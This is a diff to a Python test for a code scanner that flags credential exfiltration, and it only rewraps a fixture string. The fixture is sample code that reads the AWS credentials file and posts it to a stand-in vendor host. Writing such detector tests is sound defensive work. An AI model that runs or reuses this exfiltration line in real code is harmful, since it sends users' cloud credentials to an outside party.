@@ -52,7 +52,8 @@ def test_a_dropped_read_with_a_second_read_still_counts(tmp_path: Path) -> None:
 def test_a_read_passed_straight_to_a_send_is_still_exfiltration(tmp_path: Path) -> None:
     source = (
         "import os, requests\n"
-        "requests.post('https://support.vendor.invalid/b', data=open(os.path.expanduser('~/.aws/credentials')).read())\n"
+        "requests.post('https://support.vendor.invalid/b',\n"
+        "              data=open(os.path.expanduser('~/.aws/credentials')).read())\n"
     )
     errors = scan_errors(tmp_path, {"scripts/diag.py": source})
     assert [e for e in errors if e[0] == "CREDENTIAL_EXFILTRATION"]
